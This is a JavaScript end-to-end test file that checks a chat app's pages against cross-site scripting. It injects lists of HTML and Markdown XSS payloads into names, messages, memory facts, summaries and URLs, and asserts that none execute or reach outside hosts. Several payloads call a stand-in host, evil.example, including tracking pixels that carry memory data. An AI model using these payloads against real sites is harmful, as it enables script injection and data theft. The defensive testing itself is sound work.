/**
 * Hostile text in every place of the pages where text is shown: nothing of it runs, loads, is sent, or becomes an
 * element that it wasn't given. Against the built Worker, with a model that answers with attacks.
 */

import assert from 'node:assert/strict';
import { after, afterEach, before, beforeEach, test } from 'node:test';
import { boot } from '../e2e/harness.mjs';
import { launch, signIn } from './browser.mjs';

const HIT = 'window.hit=1';
const MARKUP = [
  `<script>${HIT}</script>`,
  `<img src=x onerror="${HIT}">`,
  `<svg/onload=${HIT}>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<details open ontoggle=${HIT}>`,
  `<video><source onerror="${HIT}"></video>`,
  `<body onload=${HIT}>`,
  `<a href="javascript:${HIT}">開く</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import url(https://evil.example/x.css);*{display:none}</style>`,
  `<form action=https://evil.example><input name=x autofocus onfocus=${HIT}></form>`,
  `<object data="https://evil.example/x"></object><embed src="https://evil.example/x">`,
  `<template><script>${HIT}</script></template>`,
  `"><img src=x onerror=${HIT}>`,
  `'-${HIT}-'`,
  `\${${HIT}}{{constructor.constructor('${HIT}')()}}`,
  `＜script＞${HIT}＜/script＞`,
  `<scr\u0000ipt>${HIT}</scr\u0000ipt>`,
  `&lt;img src=x onerror=${HIT}&gt;`,
  `&#60;img src=x onerror=${HIT}&#62;`,
  `\u202e<img src=x onerror=${HIT}>\u202c`,
];
const MARKDOWN = [
  `[x](javascript:${HIT})`, `[x](JaVaScRiPt:${HIT})`, `[x](java\tscript:${HIT})`, `[x](&#106;avascript:${HIT})`, `[x](&#x6a;avascript:${HIT})`,
  `[x](data:text/html,<script>${HIT}</script>)`, `[x](vbscript:x)`, `[x](\u0001javascript:${HIT})`, `[x](//evil.example/x)`, `[x](file:///etc/passwd)`,
  '![x](https://evil.example/pixel?memory=pochi)', '![x][r]\n\n[r]: https://evil.example/pixel', '[![x](https://evil.example/pixel)](https://evil.example)',
  '<https://evil.example/auto>', 'https://evil.example/bare?q=pochi', '[猫](https://evil.example/犬 "x" onmouseover=y)',
  '```html\n<script>window.hit=1</script>\n```', '`<img src=x onerror=window.hit=1>`', '| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |',
  '> <svg onload=window.hit=1>', '1. <iframe src=https://evil.example></iframe>', '# <script>window.hit=1</script>',
  '```"><img src=x onerror=window.hit=1>\nx\n```', '[x]: javascript:window.hit=1\n[x]', '<!-- --><script>window.hit=1</script>', '<![CDATA[<script>window.hit=1</script>]]>',
];
/** What the pages never make out of anybody's text. */
const FOREIGN = 'img, iframe, object, embed, base, video, audio, source, style, math, template, frame, [onerror], [onload], [onclick], [style], [srcdoc]';

let app;
let browser;
let context;
let page;
let outside;
let people = 0;

before(async () => {
  browser = await launch();
  app = await boot({ model: true });
});
after(async () => {
  await browser?.close();
  await app?.stop();
});
beforeEach(async () => {
  context = await browser.newContext({ locale: 'en-US' });
  context.setDefaultTimeout(15_000);
  outside = [];
  context.on('request', (request) => {
    if (!request.url().startsWith(app.url)) outside.push(request.url());
  });
  context.on('dialog', (dialog) => outside.push(`dialog ${dialog.message()}`));
  page = await context.newPage();
});
afterEach(() => context.close());

async function harmless(what) {
  const found = await page.evaluate(async (foreign) => {
    // Whatever was set off has had its chance to run.
    await new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0)));
    // The field grows with what is typed.
    const own = (element) => element.matches('script[src^="/"], link[href^="/"], meta, textarea#message');
    return {
      hit: window.hit,
      elements: [...document.querySelectorAll(foreign), ...document.querySelectorAll('script, link, meta[http-equiv]')]
        .filter((element) => !own(element) || element.matches('meta[http-equiv]')).map((element) => element.outerHTML),
      links: [...document.querySelectorAll('a[href]')].filter((a) => !['http:', 'https:', 'mailto:'].includes(a.protocol)).map((a) => a.outerHTML),
      away: [...document.querySelectorAll('a[href]')].filter((a) => a.origin !== location.origin && !/noopener noreferrer/.test(a.rel)).map((a) => a.outerHTML),
      forms: [...document.forms].filter((form) => form.hasAttribute('action')).map((form) => form.outerHTML),
      base: document.baseURI === location.href,
    };
  }, FOREIGN);
  assert.deepEqual(found, { hit: undefined, elements: [], links: [], away: [], forms: [], base: true }, what);
  assert.deepEqual(outside, [], what);
}

/** Text of a page that says an attack letter by letter, as text. */
const shows = (locator, text) => locator.filter({ hasText: text }).first().waitFor();

async function person() {
  const name = `P${people += 1}`;
  await signIn(page, app.url, name);
  return app.signIn(name);
}

test('as a name, a title, a question, an answer, and all of it again after a reload', async () => {
  const name = '<img src=x onerror=window.hit=1>';
  await signIn(page, app.url, name);
  const somebody = await app.signIn(name);
  for (const attack of [MARKUP[0], MARKUP[1], MARKUP[10]]) await somebody.ok('POST', '/api/threads', { title: attack });
  const attacks = [...MARKUP, ...MARKDOWN];
  for (let from = 0; from < attacks.length; from += 13) {
    const text = attacks.slice(from, from + 13).join('\n\n');
    app.model.next(text);
    await page.locator('#message').fill(text);
    const turns = await page.locator('.turn').count();
    await page.keyboard.press('Enter');
    await page.locator('.turn').nth(turns).and(page.locator('[data-state=done]')).waitFor();
    await harmless(`the conversation from attack ${from}`);
  }
  await page.reload();
  await shows(page.locator('.bubble'), 'onerror');
  await shows(page.locator('.prose'), 'evil.example');
  await harmless('the conversation after a reload');
  // A link out tells nobody where it was followed, and only when it is clicked.
  assert.equal(await page.locator('.prose a[href^="https://evil.example"]').first().getAttribute('rel'), 'noopener noreferrer');
});

test('as facts, quotes, summaries, tokens and changes, and in what an answer was given', async () => {
  const somebody = await person();
  for (const attack of MARKUP.filter((text) => !text.includes('\u0000'))) {
    const { status } = await somebody.api('POST', '/api/memory/facts', { text: `My note says ${attack}`, kind: 'other' });
    assert.ok([201, 400, 422].includes(status), `${status} for ${attack}`);
  }
  // What is pinned is in every answer.
  const pet = await somebody.ok('POST', '/api/memory/facts', { text: `My pet is ${MARKUP[1]}.` });
  await somebody.ok('PATCH', `/api/memory/facts/${pet.id}`, { pinned: true });
  await somebody.ok('PUT', '/api/threads/main/summary', { summary: MARKUP.slice(0, 6).join(' ') });
  await somebody.ok('POST', '/api/tokens', { name: MARKUP[1], scopes: ['chat'] });
  for (const part of ['facts', 'changes', 'summaries', 'settings']) {
    await page.goto(`${app.url}/memory#${part}`);
    await page.reload();
    // A summary is in a field to edit, which has a value and no text.
    if (part === 'summaries') {
      await page.locator('.summary-box > summary').first().click();
      await page.waitForFunction(() => [...document.querySelectorAll('.part textarea')].some((field) => field.value.includes('onerror')));
    } else await shows(page.locator('.part'), 'onerror');
    await harmless(`the memory page's ${part}`);
  }
  await page.goto(`${app.url}/memory`);
  await page.locator('input[type=search]').fill('<img src=x onerror=window.hit=1>');
  await page.keyboard.press('Enter');
  await page.waitForLoadState('networkidle');
  await harmless('a search');
  await page.locator('.fact').first().getByRole('button', { name: 'Edit' }).click();
  await harmless('editing');
  await page.keyboard.press('Escape');
  await page.goto(app.url);
  await page.locator('#message').fill('What does my note say?');
  await page.keyboard.press('Enter');
  await page.locator('.turn[data-state=done]').waitFor();
  await page.locator('.recalled').evaluate((details) => { details.open = true; });
  await shows(page.locator('.recalled'), 'onerror');
  await page.locator('.recalled .chip').first().click();
  await page.locator('dialog').waitFor();
  await harmless('what an answer was given');
});

test('in addresses and in what the server refuses', async () => {
  await person();
  const attack = encodeURIComponent('<img src=x onerror=window.hit=1>');
  for (const path of [
    `/?thread=${attack}`, `/?sign_in=${attack}`, `/#${attack}`, `/memory#${attack}`, `/memory#fact=${attack}`, `/memory?q=${attack}#facts`,
    `/memory#fact=%`, '/?thread=javascript:window.hit=1', '/memory#settings=javascript:window.hit=1',
  ]) {
    await page.goto(app.url + path);
    await page.reload();
    await page.waitForLoadState('networkidle');
    await harmless(path);
  }
});

test('and were it to get in, the policy stops it', async () => {
  await person();
  const stopped = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const tries = {
      markup: () => { document.body.innerHTML = '<img src=x onerror="window.hit=1">'; },
      // eslint-disable-next-line no-eval
      evaluation: () => { (0, eval)('window.hit=1'); },
      script: () => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hit=1' })); },
    };
    const thrown = [];
    // Outside this call: what a test's driver evaluates may evaluate.
    await new Promise((done) => setTimeout(() => {
      for (const [name, attempt] of Object.entries(tries)) {
        try { attempt(); } catch { thrown.push(name); }
      }
      done();
    }, 0));
    const image = document.createElement('img');
    image.src = 'https://evil.example/pixel';
    document.body.append(image);
    const sent = await fetch('https://evil.example/').then(() => 'sent', () => 'stopped');
    await new Promise((done) => setTimeout(done, 100));
    return { hit: window.hit, thrown, sent, violations: [...new Set(violations)].sort() };
  });
  assert.equal(stopped.hit, undefined);
  assert.deepEqual(stopped.thrown, ['markup', 'evaluation', 'script']);
  assert.equal(stopped.sent, 'stopped');
  for (const directive of ['connect-src', 'img-src']) assert.ok(stopped.violations.includes(directive), `${stopped.violations}`);
});
